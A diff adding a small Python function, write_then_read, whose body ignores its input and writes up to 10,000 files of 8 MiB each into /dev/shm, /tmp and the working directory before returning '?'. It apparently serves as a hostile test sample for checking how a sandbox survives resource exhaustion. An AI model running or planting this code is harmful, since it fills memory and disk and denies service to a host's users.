@@ -1,0 +1,12 @@
+"""Fills /dev/shm and /tmp."""
+
+
+def write_then_read(message):
+    for number in range(10_000):
+        for folder in ("/dev/shm", "/tmp", "."):
+            try:
+                with open(f"{folder}/fill{number}", "wb") as file:
+                    file.write(bytes(8 << 20))
+            except OSError:
+                continue
+    return "?"
